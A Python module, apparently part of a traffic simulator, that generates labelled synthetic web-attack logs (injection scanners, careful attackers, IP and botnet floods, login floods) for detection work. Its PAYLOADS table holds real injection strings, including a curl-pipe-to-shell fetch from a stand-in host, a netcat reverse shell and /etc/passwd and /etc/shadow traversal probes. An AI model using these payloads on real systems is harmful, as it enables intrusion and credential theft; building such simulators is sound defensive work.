"""Web attacks: injection scanners and careful attackers, and floods of every shape."""

from __future__ import annotations

import random
from urllib.parse import quote, quote_plus

from simulator.attacks import TOOLS_UA, Truth
from simulator.benign import ASSETS
from simulator.events import Client, Emitter
from simulator.ipplan import IpPlan
from simulator.population import BROWSERS

# Payload grammars per class; each instance is varied (case, encoding, spacing) at random.
PAYLOADS = {
    "sqli": ("' OR '1'='1", "1' OR 1=1-- -", "1 UNION SELECT username,password FROM users--",
             "') OR ('a'='a", "1; DROP TABLE orders--", "1' AND SLEEP(5)#", "admin'--",
             "1' AND extractvalue(1,concat(0x7e,version()))--", "-1 UNION ALL SELECT NULL,NULL,@@version#",
             "1' WAITFOR DELAY '0:0:5'--", "1) AND 1=CAST((SELECT version()) AS int)--"),
    "xss": ("<script>alert(1)</script>", "\"><img src=x onerror=alert(document.cookie)>",
            "<svg/onload=alert(1)>", "javascript:alert(1)", "<iframe src=javascript:alert(1)>",
            "'\"><body onload=confirm(1)>", "<details open ontoggle=alert(1)>"),
    "path_traversal": ("../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "....//....//etc/passwd",
                       "..\\..\\..\\windows\\win.ini", "/var/www/../../etc/hosts", "%2e%2e/%2e%2e/proc/self/environ"),
    "command_injection": ("; cat /etc/passwd", "| id", "`whoami`", "$(curl http://evil.example/x.sh|sh)",
                          "&& nc -e /bin/sh 10.0.0.1 4444", "; ping -c 3 127.0.0.1"),
    "template_injection": ("{{7*7}}", "${7*7}", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
                           "<%= 7*7 %>", "#{7*7}", "{{''.__class__.__mro__[1].__subclasses__()}}"),
    "nosql_injection": ('{"$ne": null}', '{"$gt": ""}', "[$ne]=1", '{"$where": "sleep(100)"}',
                        '{"$regex": ".*"}', "username[$ne]=x&password[$ne]=x"),
}
TARGETS = (("GET", "/shop", "q"), ("GET", "/genealogy", "id"), ("POST", "/login", "username"),
           ("GET", "/orders", "sort"), ("POST", "/crm/contacts", "note"))


def _mutate(rng: random.Random, payload: str) -> str:
    """Vary an instance the way real tools and people do: case, spacing, comments, encodings."""
    if rng.random() < 0.3:
        payload = "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in payload)
    if rng.random() < 0.2:
        payload = payload.replace(" ", "/**/")
    if rng.random() < 0.3:
        return quote(quote(payload, safe=""), safe="")  # double encoding
    return quote_plus(payload)


def _send(em: Emitter, rng: random.Random, client: Client, ts: float, cls: str) -> None:
    method, path, param = rng.choice(TARGETS)
    value = _mutate(rng, rng.choice(PAYLOADS[cls]))
    if method == "GET":
        em.http(ts, client, method, path, rng.choice((200, 400, 500)), query=f"{param}={value}", rng=rng)
    else:
        em.http(ts, client, method, path, rng.choice((200, 400, 401)), body=f"{param}={value}", rng=rng)


def injection_scanner(em: Emitter, rng: random.Random, plan: IpPlan, t: float) -> Truth:
    """An automated scanner: hundreds of probes of many classes from one address."""
    client = Client(plan.hosting_address(rng), rng.choice(TOOLS_UA))
    classes = rng.sample(sorted(PAYLOADS), rng.randint(2, len(PAYLOADS)))
    ts = t
    for _ in range(rng.randint(80, 400)):
        _send(em, rng, client, ts, rng.choice(classes))
        ts += rng.uniform(0.05, 1.5)
    return Truth("", "injection", "scanner", [client.ip], t, ts, {"classes": classes})


def careful_injection(em: Emitter, rng: random.Random, plan: IpPlan, t: float, cls: str) -> Truth:
    """A person trying one or two hand-made payloads of one class from a normal browser."""
    client = Client(plan.address(rng, rng.choice(sorted(plan.by_country))), rng.choice(BROWSERS).format(v=126, m=3))
    ts = t
    for _ in range(rng.randint(1, 3)):
        _send(em, rng, client, ts, cls)
        ts += rng.uniform(5, 120)
    return Truth("", "injection", cls, [client.ip], t, ts)


def single_ip_flood(em: Emitter, rng: random.Random, plan: IpPlan, t: float) -> Truth:
    """One address hammering one page (wrk, a stress script, a misbehaving bot)."""
    client = Client(plan.hosting_address(rng), rng.choice(TOOLS_UA))
    path = rng.choice(("/", "/shop", "/shop/promo"))
    ts = t
    for _ in range(rng.randint(3000, 9000)):
        em.http(ts, client, "GET", path, rng.choice((200, 200, 503)), rng=rng)
        ts += rng.expovariate(rng.uniform(30, 120))
    return Truth("", "traffic_flood", "single_ip_flood", [client.ip, "service"], t, ts)


def distributed_flood(em: Emitter, rng: random.Random, plan: IpPlan, t: float) -> Truth:
    """A botnet: thousands of addresses, each modest, no sessions, no assets, one or two paths."""
    bots = [Client(plan.address(rng, rng.choice(sorted(plan.by_country))), rng.choice(TOOLS_UA))
            for _ in range(rng.randint(800, 2500))]
    paths = rng.sample(["/", "/shop", "/login", "/enroll"], 2)
    ts = t
    for _ in range(rng.randint(8000, 20000)):
        em.http(ts, rng.choice(bots), "GET", rng.choice(paths), rng.choice((200, 503)), rng=rng)
        ts += rng.expovariate(rng.uniform(60, 150))
    return Truth("", "traffic_flood", "distributed_flood", ["service"], t, ts)


def login_flood(em: Emitter, rng: random.Random, plan: IpPlan, t: float) -> Truth:
    """POST /login as fast as possible from a few hosts (a credential cracker without care)."""
    clients = [Client(plan.hosting_address(rng), rng.choice(TOOLS_UA)) for _ in range(rng.randint(1, 5))]
    ts = t
    for _ in range(rng.randint(2000, 6000)):
        client = rng.choice(clients)
        em.login(ts, client, f"user{rng.randint(1, 5000)}", None, False, "unknown_user")
        ts += rng.expovariate(rng.uniform(20, 80))
    return Truth("", "traffic_flood", "login_flood", ["service", *[c.ip for c in clients]], t, ts)


__all__ = ["ASSETS", "PAYLOADS", "careful_injection", "distributed_flood", "injection_scanner",
           "login_flood", "single_ip_flood"]
